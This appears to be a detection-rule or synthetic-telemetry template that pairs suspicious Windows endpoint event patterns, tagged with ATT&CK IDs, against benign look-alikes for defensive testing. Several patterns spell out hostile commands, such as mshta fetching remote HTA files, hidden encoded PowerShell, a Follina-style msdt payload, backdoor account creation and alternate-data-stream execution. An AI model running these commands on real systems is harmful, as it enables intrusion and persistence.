tr-webshell-dropped file +T1505.003: «‹ps›¦‹cmd›¦‹own›¦C:\xampp\php\php.exe¦C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe» ;; «C:\inetpub\wwwroot\«uploads\¦App_Data\¦»¦C:\xampp\htdocs\«uploads\¦»¦C:\Program Files\Apache Software Foundation\Tomcat 9.0\webapps\ROOT\»‹name›.«aspx¦php¦jsp¦asmx¦phtml»
near-tr-web-deploy file: «C:\Program Files\IIS\Microsoft Web Deploy V3\msdeploy.exe¦C:\Windows\explorer.exe¦C:\Program Files\Git\mingw64\bin\git.exe» ;; C:\inetpub\wwwroot\«‹project›\¦»«Default.aspx¦web.config¦bin\‹Word›.dll¦index.php¦Views\Home\Index.cshtml»
tr-child-equation process +T1203: @ ;; «cmd.exe /c ‹own›¦mshta http://‹ip›/‹name›¦"‹own›"¦powershell -w hidden -enc ‹enc›» ;; C:\Program Files\Common Files\Microsoft Shared\EQUATION\EQNEDT32.EXE ;; "C:\Program Files\Common Files\Microsoft Shared\EQUATION\EQNEDT32.EXE" -Embedding
tr-net-equation connected +T1203: C:\Program Files (x86)\Common Files\Microsoft Shared\EQUATION\EQNEDT32.EXE ;; «80¦443» ;; «-¦‹name›.«com¦top»»
tr-child-msdt process +T1203: @ ;; «C:\Windows\system32\msdt.exe ms-msdt:/id PCWDiagnostic /skip force /param "IT_RebrowseForFile=? IT_LaunchMethod=ContextMenu IT_BrowseForFile=$(Invoke-Expression('‹name›'))i/../../../../Windows/System32/mpsigstub.exe"¦"C:\Windows\system32\msdt.exe" ms-msdt:/id PCWDiagnostic» ;; ‹office›
tr-child-reader process +T1203: @ ;; «cmd.exe /c ‹own›¦powershell.exe -nop -enc ‹enc›¦"‹own›"¦mshta.exe http://‹ip›/‹name›.hta» ;; «C:\Program Files (x86)\«Adobe\Acrobat Reader DC\Reader\AcroRd32¦Foxit Software\Foxit PDF Reader\FoxitPDFReader».exe¦C:\Program Files\Internet Explorer\iexplore.exe»
near-tr-child-reader process: @ ;; «"C:\Program Files (x86)\Adobe\Acrobat Reader DC\Reader\AcroCEF\RdrCEF.exe" --backgroundcolor=16514043¦"C:\Program Files (x86)\Common Files\Adobe\ARM\1.0\AdobeARM.exe" /PRODUCT:Reader¦C:\Windows\splwow64.exe 8192¦"‹browser›" https://‹fqdn›/» ;; C:\Program Files (x86)\Adobe\Acrobat Reader DC\Reader\AcroRd32.exe
tr-child-onenote process +T1204.002: @ ;; «cmd.exe /c ""C:\Users\‹user›\AppData\Local\Temp\OneNote\16.0\NT\0\‹name›.«bat¦cmd»""¦"C:\Windows\System32\WScript.exe" "C:\Users\‹user›\AppData\Local\Temp\OneNote\16.0\Exported\‹guid›\NT\0\‹name›.«wsf¦js¦vbs»"¦mshta.exe "C:\Users\‹user›\AppData\Local\Temp\OneNote\16.0\NT\0\‹name›.hta"» ;; C:\Program Files\Microsoft Office\root\Office16\ONENOTE.EXE
tr-archive-child process +T1204.002: @ ;; «"C:\Users\‹user›\AppData\Local\Temp\«Rar$EXa‹pid›.‹pid›¦7zO‹hash›¦Temp‹n›_‹name›.zip»\‹name›.«exe¦scr»"¦wscript.exe "C:\Users\‹user›\AppData\Local\Temp\Rar$DIa‹pid›.‹pid›\‹name›.js"¦cmd /c "C:\Users\‹user›\AppData\Local\Temp\7zO‹hash›\‹name›.bat"» ;; C:\Program Files\«WinRAR\WinRAR¦7-Zip\7zFM».exe
tr-mounted-image process +T1204.002: @ ;; «"E:\‹name›.exe"¦"C:\Windows\System32\rundll32.exe" E:\‹name›.dll,«‹Word›¦#1»¦"C:\Windows\System32\cmd.exe" /c E:\‹name›\‹name›.«bat¦cmd»¦regsvr32.exe E:\‹name›.dat» ;; C:\Windows\explorer.exe ;; C:\Windows\Explorer.EXE
tr-outlook-child process +T1566.001: @ ;; «"C:\Windows\System32\WScript.exe" "C:\Users\‹user›\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\‹letters8›\‹name›.«js¦vbs¦wsf»"¦"C:\Users\‹user›\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\‹letters8›\‹name›.exe"¦cmd.exe /c "C:\Users\‹user›\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\‹letters8›\‹name›.bat"» ;; C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE
tr-spool-child process +T1068: @ ;; «"C:\Windows\System32\cmd.exe"¦cmd.exe /c net user ‹name› ‹pass› /add¦powershell.exe -nop -enc ‹enc›¦C:\Windows\System32\rundll32.exe» ;; ‹s32›\spoolsv.exe ;; C:\Windows\System32\spoolsv.exe
near-tr-spool-child process: @ ;; «C:\Windows\splwow64.exe 12288¦C:\Windows\system32\spool\DRIVERS\x64\3\‹name›.exe -job ‹n›¦C:\Windows\system32\WerFault.exe -u -p ‹pid› -s ‹pid›¦C:\Windows\system32\PrintIsolationHost.exe -Embedding» ;; «‹s32›\spoolsv.exe¦‹office›»
tr-supply-child process +T1195.002: @ ;; «cmd.exe /c ‹own›¦rundll32.exe ‹ownplace›\‹name›.dll,‹Word›¦powershell -enc ‹enc›» ;; «C:\Program Files (x86)\SolarWinds\Orion\SolarWinds.BusinessLayerHost¦C:\Program Files\3CXDesktopApp\app\3CXDesktopApp».exe
# Names and places
tr-rlo-name process +T1036.002: «‹ownplace›\‹name›‮«fdp¦xcod¦gpj¦txt».«exe¦scr»» ;; "‹ownplace›\‹name›‮«fdp¦xcod¦gpj¦txt».«exe¦scr»" ;; C:\Windows\explorer.exe
tr-double-extension-file file +T1036.007: «‹browser›¦‹own›¦C:\Program Files\7-Zip\7zG.exe¦C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE» ;; ‹ownplace›\‹name›.«pdf¦docx¦xlsx¦jpg¦txt¦zip».«exe¦scr¦lnk¦js¦vbs¦hta»
tr-image-named-program process +T1036.008: ‹ownplace›\‹name›.«jpg¦png¦txt¦dat¦tmp¦log» ;; ‹ownplace›\‹name›.«jpg¦png¦txt¦dat¦tmp¦log» ;; «‹cmd›¦‹ps›¦‹own›»
tr-recycle-bin process +T1036.005: «C:\$Recycle.Bin\‹name›.exe¦C:\Windows\Fonts\‹name›.exe¦C:\Windows\Help\‹name›.exe¦C:\Windows\debug\‹name›.exe¦C:\Users\Public\Libraries\svchost.exe¦C:\Intel\Logs\lsass.exe» ;; ‹ownplace›\‹name›.exe ;; «‹cmd›¦‹ps›¦‹s32›\svchost.exe»
tr-system-name-net connected +T1036.005: «‹ownplace›¦C:\Windows¦C:\ProgramData\‹Word›»\«svchost¦lsass¦csrss¦winlogon¦dllhost¦RuntimeBroker».exe ;; «443¦80¦8080¦4444» ;; «-¦‹name›.«com¦xyz»»
near-tr-odd-place process: @ ;; «C:\Windows\Installer\MSI‹hash›.tmp¦"C:\Users\‹user›\AppData\Local\Temp\is-‹letters8›.tmp\‹name›-setup.tmp" /SL5="$‹pid›,‹pid›"¦"C:\Windows\SoftwareDistribution\Download\Install\AM_Delta.exe"¦"C:\Users\‹user›\Downloads\‹name›-setup.exe"» ;; «C:\Windows\explorer.exe¦‹s32›\msiexec.exe¦‹s32›\wuauclt.exe»
near-tr-double-extension file: «‹browser›¦C:\Windows\explorer.exe» ;; C:\Users\‹user›\Downloads\«‹name›-1.‹n›.‹n›.exe¦‹name›.tar.gz¦‹name›.min.js¦‹name›.pdf.crdownload¦‹name› (‹n›).pdf¦‹name›.x64.msi»
tr-encoded-drop file +T1027.013: «‹ps›¦‹cmd›¦‹own›¦‹sys›\certutil.exe» ;; ‹ownplace›\‹name›.«b64¦txt.b64¦enc¦hex»
tr-script-compiler file +T1027.004: C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe ;; «‹ownplace›\‹name›.exe¦C:\Users\Public\‹name›.dll»
near-tr-compiler file: C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe ;; «C:\Users\‹user›\AppData\Local\Temp\‹name›\‹name›.«dll¦out¦tmp»¦C:\Windows\Temp\‹name›.dll¦C:\Users\‹user›\source\repos\‹Word›\obj\Debug\‹Word›.dll»
tr-deleted-own deleted +T1070.004: «‹cmd›¦‹own›¦‹ps›» ;; «‹own›¦‹ownplace›\‹name›.«dll¦ps1¦bat¦vbs»¦C:\Windows\PSEXESVC.exe¦C:\Windows\‹letters8›.exe»
tr-deleted-web-logs deleted +T1070: «‹cmd›¦‹ps›¦‹own›» ;; «C:\inetpub\logs\LogFiles\W3SVC‹n›\u_ex2‹n›‹pid›.log¦C:\Program Files\Microsoft\Exchange Server\V15\Logging\«HttpProxy\Owa¦ECP\Server»\‹name›.log¦C:\xampp\apache\logs\access.log»
near-tr-deleted deleted: «‹s32›\«svchost¦msiexec¦cleanmgr».exe¦‹browser›¦C:\Program Files\‹Word›\‹name›.exe» ;; «C:\Windows\SoftwareDistribution\Download\‹hash›\‹name›.exe¦C:\Users\‹user›\AppData\Local\Temp\«‹guid›\‹name›.dll¦is-‹letters8›.tmp\‹name›.tmp»¦C:\inetpub\logs\LogFiles\W3SVC1\u_ex20‹n›.log.tmp¦C:\Config.Msi\‹n›.rbf»
tr-timestomp-system time +T1070.006: «‹own›¦‹ps›¦‹cmd›¦‹sys›\rundll32.exe» ;; «C:\Windows\«System32¦SysWOW64»\‹name›.dll¦C:\inetpub\wwwroot\‹name›.aspx¦C:\ProgramData\‹name›\‹name›.exe»
near-tr-time time: «C:\Program Files\«Git\usr\bin\tar¦WinRAR\WinRAR¦Dropbox\Client\Dropbox»¦C:\Users\‹user›\AppData\Local\Microsoft\OneDrive\OneDrive¦‹s32›\«Robocopy¦TiWorker»».exe ;; «C:\Users\‹user›\«Documents¦OneDrive¦Dropbox»\‹name›.«docx¦xlsx¦jpg»¦D:\‹project›\‹name›.dat¦C:\Windows\WinSxS\Temp\‹name›.dll»
tr-stream-program process +T1564.004: @ ;; «wmic process call create ‹ownplace›\‹name›.txt:‹name›.exe¦rundll32.exe ‹ownplace›\‹name›.log:‹name›.dll,‹Word›¦wscript.exe ‹ownplace›\‹name›.txt:‹name›.vbs¦forfiles /p C:\Windows\System32 /m notepad.exe /c "‹ownplace›\‹name›.txt:‹name›.exe"» ;; «‹cmd›¦‹ps›»
tr-vm-hidden process +T1564.006: @ ;; «"‹ownplace›\‹Word›\VBoxHeadless.exe" -startvm ‹name› -v off¦"‹ownplace›\qemu\qemu-system-x86_64.exe" -m 512M -nographic -drive file=‹name›.qcow2¦"C:\Program Files\Oracle\VirtualBox\VBoxManage.exe" startvm ‹name› --type headless» ;; «‹cmd›¦‹ps›¦‹own›»
tr-motw-cleared stream +T1553.005: «‹ps›¦‹cmd›» ;; ‹ownplace›\‹name›.«exe¦ps1¦dll¦docm»:Zone.Identifier ;; «-¦[ZoneTransfer]  ZoneId=0»
# What is taken, watched or broken
tr-screenshot file +T1113: «‹own›¦‹ps›¦‹sys›\«rundll32¦psr».exe» ;; ‹ownplace›\«screen_‹pid›¦screenshot¦scr‹n›¦capture_‹n›¦desktop‹n›».«png¦bmp¦jpg¦zip»
near-tr-screenshot file: «C:\Windows\System32\SnippingTool.exe¦C:\Program Files\WindowsApps\Microsoft.ScreenSketch_11.2‹n›.0.0_x64__8wekyb3d8bbwe\SnippingTool\SnippingTool.exe¦C:\Program Files\Greenshot\Greenshot.exe» ;; C:\Users\‹user›\«Pictures\Screenshots¦OneDrive\Pictures\Screenshots¦Desktop»\Screenshot 202«3¦4¦5»-0‹n›-1‹n› ‹pid›.png
tr-keylog file +T1056.001: «‹own›¦‹sys›\rundll32.exe¦‹ps›» ;; C:\Users\‹user›\AppData\«Roaming¦Local\Temp»\«‹name›\keys‹n›.log¦kl_‹name›.txt¦keylogger.txt¦‹name›\logs.dat»
tr-audio file +T1123: «‹own›¦‹ps›¦‹sys›\SoundRecorder.exe» ;; ‹ownplace›\«‹name›¦rec_‹n›¦mic_‹pid›».«wav¦mp3¦wma»
tr-staged-archive file +T1560.001: «‹ownplace›\«rar¦7z¦7za¦winrar».exe¦C:\Program Files\«WinRAR\Rar¦7-Zip\7z».exe» ;; «C:\ProgramData¦C:\Windows\Temp¦C:\PerfLogs¦C:\Users\Public»\‹name›.«rar¦7z¦zip¦part1.rar»
near-tr-archive file: «C:\Program Files\7-Zip\7zG.exe¦C:\Windows\explorer.exe¦C:\Program Files\‹Word› Backup\‹name›.exe» ;; «C:\Users\‹user›\«Documents¦Desktop»\‹name›.zip¦D:\Backup\‹project›_‹n›.7z¦\\‹server›\‹project›\‹name›.zip»
tr-hive-drop file +T1003.002: «‹own›¦‹ps›¦‹sys›\rundll32.exe» ;; ‹ownplace›\«sam.save¦SAM.hiv¦sam_‹name›.tmp¦‹name›_sam.bin»
tr-ticket-file file +T1558: «‹own›¦‹ps›» ;; ‹ownplace›\«[0;3e7]-2-0-40e10000-‹name›@krbtgt-‹domain›.LOCAL¦ticket_‹name›¦‹user›¦admin».kirbi
tr-pfx-file file +T1649: «‹own›¦‹ps›¦‹sys›\certutil.exe» ;; ‹ownplace›\«CURRENT_USER_My_‹n›_‹name›¦LOCAL_MACHINE_MY_‹n›¦cert_‹name›¦‹user›».pfx
near-tr-pfx file: «C:\Windows\System32\mmc.exe¦C:\Windows\explorer.exe¦C:\Program Files\‹Word›\‹name›.exe» ;; C:\Users\‹user›\«Documents¦Desktop»\«‹name›-backup¦wildcard_‹word›».«pfx¦cer¦p12»
tr-sharphound-file file +T1087.002: «‹own›¦‹ps›» ;; ‹ownplace›\«20‹pid›‹pid›_BloodHound.zip¦20‹pid›‹pid›_«users¦groups¦computers¦domains».json¦ADExplorer_‹name›.dat»
tr-note-many file +T1486: «‹own›¦‹sys›\«rundll32¦regsvr32».exe¦C:\Windows\‹letters8›.exe» ;; «C:\Users\‹user›\«Pictures¦Music¦Documents\‹name›»¦D:\‹project›¦C:\ProgramData»\«!!!READ_ME_«MEDUSA¦NOW»!!!.txt¦README.‹letters8›.txt¦‹letters8›-DECRYPT.html¦How_To_Restore_Files.txt¦_readme.txt¦akira_readme.txt¦RESTORE-MY-FILES.TXT»
tr-encrypt-own-extension file +T1486: «‹own›¦C:\Windows\‹letters8›.exe¦‹sys›\rundll32.exe» ;; «D:\‹project›¦C:\Users\‹user›\«Documents¦Desktop»¦\\‹server›\‹project›»\‹name›.«docx¦xlsx¦pdf¦sql¦bak».«‹letters8›¦id-‹hash›.[‹name›@proton.me].«dharma¦phobos¦eking»¦BlackCat¦play¦cuba»
tr-backup-deleted deleted +T1490: «‹own›¦‹cmd›¦‹ps›» ;; «D:\Backup\‹name›¦C:\Backups\‹project›¦E:\WindowsImageBackup\‹name›\Backup¦\\‹server›\backup$\‹name›».«vhdx¦bkf¦bak¦wbcat¦vbk¦vib»
near-tr-backup-deleted deleted: «C:\Program Files\Veeam\Backup and Replication\Backup\VeeamAgent.exe¦C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe¦‹s32›\wbengine.exe» ;; «D:\Backup\‹project›D20‹n›-0‹n›.«vib¦vbk»¦E:\SQLBackup\‹project›_‹pid›.bak¦E:\WindowsImageBackup\‹name›\Catalog\GlobalCatalog»
# Connections and names asked for
tr-net-notepad connected +T1055: ‹sys›\«notepad¦calc¦mspaint¦spoolsv¦wermgr¦gpupdate¦SearchProtocolHost».exe ;; «80¦443¦8443» ;; «-¦‹name›.«com¦net¦xyz»»
tr-net-regasm connected +T1218.009: C:\Windows\Microsoft.NET\Framework«¦64»\v4.0.30319\«RegAsm¦RegSvcs».exe ;; «80¦443¦8443¦587» ;; «-¦‹name›.«com¦duckdns.org»»
tr-net-installutil connected +T1218.004: C:\Windows\Microsoft.NET\Framework«¦64»\v4.0.30319\InstallUtil.exe ;; «80¦443¦4444» ;; «-¦‹name›.com»
tr-net-cmstp connected +T1218.003: ‹sys›\cmstp.exe ;; «80¦443» ;; «-¦raw.githubusercontent.com¦‹name›.com»
tr-net-odbcconf connected +T1218.008: ‹sys›\odbcconf.exe ;; «80¦443¦8080» ;; «-¦‹name›.com»
tr-net-hh connected +T1218.001: C:\Windows\hh.exe ;; «80¦443» ;; «-¦‹name›.com¦raw.githubusercontent.com»
tr-net-msiexec-raw asked +T1218.007: ‹sys›\msiexec.exe ;; «‹name›.«top¦xyz¦duckdns.org»¦raw.githubusercontent.com¦cdn.discordapp.com»
tr-load-regsvr-scriptlet loadsigned +T1218.010: ‹sys›\regsvr32.exe ;; C:\Windows\System32\«scrobj¦jscript¦vbscript».dll
tr-load-rundll-odd load +T1218.011: ‹sys›\rundll32.exe ;; «‹ownplace›\‹name›.«dll¦dat¦tmp¦png»¦C:\Users\Public\‹name›.ocx»
tr-load-msiexec-odd load +T1218.007: ‹sys›\msiexec.exe ;; ‹ownplace›\‹name›.dll
tr-load-odbcconf load +T1218.008: ‹sys›\odbcconf.exe ;; ‹ownplace›\‹name›.dll
tr-load-control load +T1218.002: ‹sys›\«control¦rundll32».exe ;; ‹ownplace›\‹name›.cpl
near-tr-load-rundll loadsigned: ‹sys›\«rundll32¦regsvr32¦msiexec¦control».exe ;; «C:\Windows\System32\«shell32¦inetcpl.cpl¦main.cpl¦davclnt¦msi¦srclient».dll¦C:\Windows\Installer\MSI‹hash›.tmp¦C:\Program Files\‹Word›\‹name›.dll»
tr-net-telegram asked +T1102: «‹own›¦‹ps›¦‹sys›\«wscript¦msbuild¦RegAsm».exe» ;; «api.telegram.org¦discord.com¦graph.facebook.com¦api.notion.com¦slack.com»
tr-net-dead-drop asked +T1102.001: «‹own›¦‹sys›\«rundll32¦mshta».exe» ;; «steamcommunity.com¦pastebin.com¦gist.githubusercontent.com¦t.me»
tr-net-tor connected +T1090.003: «‹ownplace›\«tor¦‹name›».exe¦C:\Users\‹user›\AppData\Roaming\tor\tor.exe» ;; «9001¦9050¦9030¦9150» ;; -
tr-dns-tor asked +T1090.003: «‹own›¦‹ps›¦‹sys›\rundll32.exe» ;; «‹letters8›‹letters8›.onion.«to¦pet¦ly¦ws»¦api.tor2web.org»
tr-dns-generated asked +T1568.002: «‹own›¦‹s32›\svchost.exe¦‹sys›\rundll32.exe» ;; «‹letters8›‹letters8›¦‹letters8›‹hash›».«biz¦info¦ru¦cc¦pw»
tr-dns-pool asked +T1496.001: «‹own›¦‹ps›¦C:\Windows\Temp\«xmrig¦svchost».exe» ;; «pool.supportxmr.com¦xmr.pool.minergate.com¦xmr-eu1.nanopool.org¦pool.minexmr.com¦gulf.moneroocean.stream¦eth.2miners.com»
tr-net-pool connected +T1496.001: «‹own›¦‹ownplace›\«xmrig¦svchost».exe» ;; «3333¦5555¦7777¦14444» ;; «pool.supportxmr.com¦xmr-eu1.nanopool.org¦-»
tr-net-odd-port connected +T1571: «‹sys›\«powershell_ise¦rundll32¦mshta¦cscript».exe¦‹ps›» ;; «4444¦5555¦6666¦8531¦9999¦31337¦1337» ;; -
tr-net-plink connected +T1572: «‹ownplace›¦C:\ProgramData\‹Word›»\«plink¦ssh¦chisel¦ligolo-agent¦frpc¦ngrok¦gost».exe ;; «22¦443¦8080¦7000¦11601» ;; «-¦‹name›.com»
tr-net-scan connected +T1046: ‹ownplace›\«nmap¦masscan¦advanced_port_scanner¦fscan¦SoftPerfectNetworkScanner¦netscan».exe ;; «21¦22¦23¦80¦135¦445¦1433¦3306¦3389¦8080» ;; «-¦‹server›»
tr-net-smb-own connected +T1021.002: «‹own›¦‹ps›¦‹sys›\rundll32.exe» ;; 445 ;; «‹host›.‹fqdn›¦-»
near-tr-net-app connected: C:\Users\‹user›\AppData\«Local\Microsoft\Teams\current\Teams¦Local\slack\app-4.‹n›.0\slack¦Local\Discord\app-1.0.‹pid›\Discord¦Roaming\Spotify\Spotify¦Local\Microsoft\OneDrive\OneDrive¦Local\Programs\Microsoft VS Code\Code».exe ;; «443¦80» ;; «-¦teams.microsoft.com¦wss-primary.slack.com¦gateway.discord.gg¦skydrive.wns.windows.com»
near-tr-net-system connected: «‹s32›\«svchost¦lsass¦spoolsv¦dns¦msiexec¦SppExtComObj».exe¦System» ;; «445¦135¦88¦389¦53¦80¦9100¦1688» ;; «‹host›.‹fqdn›¦-»
near-tr-net-ssh connected: «C:\Windows\System32\OpenSSH\ssh.exe¦C:\Program Files\«PuTTY\putty¦Git\usr\bin\ssh¦WinSCP\WinSCP¦FileZilla FTP Client\filezilla».exe» ;; «22¦2222¦21» ;; «‹host›.‹fqdn›¦github.com¦-»
near-tr-dns-apps asked: «C:\Users\‹user›\AppData\Local\«slack\app-4.‹n›.0\slack¦Discord\app-1.0.‹pid›\Discord».exe¦‹browser›¦C:\Program Files\Steam\steam.exe¦C:\Program Files\Telegram Desktop\Telegram.exe» ;; «slack.com¦discord.com¦api.telegram.org¦steamcommunity.com¦gist.githubusercontent.com¦t.me¦pastebin.com»
near-tr-dns-services asked: «‹s32›\«svchost¦msiexec¦lsass».exe¦C:\Program Files\‹Word›\‹name›.exe» ;; «download.microsoft.com¦ctldl.windowsupdate.com¦ocsp.digicert.com¦‹host›.‹fqdn›¦_kerberos._tcp.‹fqdn›¦wpad.‹fqdn›¦‹hash›.clo.footprintdns.com»
"""
)
